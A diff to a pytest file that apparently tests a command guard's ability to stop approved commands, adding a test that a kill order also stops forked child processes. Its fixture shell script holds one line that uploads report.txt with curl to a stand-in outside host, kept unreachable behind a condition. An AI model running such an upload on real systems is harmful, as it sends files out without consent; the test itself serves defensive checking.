@@ -21,7 +21,7 @@ pytestmark = pytest.mark.skipif(not LAUNCHER.is_file(), reason="no launcher: the
 COMMAND = {"command": "./deploy.sh"}
 SCRIPT = """#!/bin/sh
 echo ran >> ../ran
-if [ -e ../wait ]; then sleep 60; fi
+while [ -e ../wait ]; do sleep 0.05; done
 if [ -e /nowhere ]; then curl -T report.txt https://unknown.example; fi
 """
 
@@ -123,6 +123,16 @@ def test_an_order_stops_an_approved_command_that_runs(guard: Guard, told: str) -
     running.communicate(timeout=30)
     assert running.returncode != 0
     assert runs(guard) == 1
+
+
+@pytest.mark.parametrize("number", range(4))
+def test_what_was_being_started_when_the_order_came_is_not_forgotten(guard: Guard, told: str, number: int) -> None:
+    """The script was killed first, and what it had just forked stood still for ever, below no launcher."""
+    running = start_and_wait(guard, told)
+    time.sleep(number * 0.013)
+    assert guard.cli("kill", "session-1", "--reason", "enough").returncode == 0
+    running.communicate(timeout=10)  # whoever is left holds the ends of these pipes
+    assert running.returncode != 0
 
 
 def start_and_wait(guard: Guard, command: str) -> subprocess.Popen[str]:
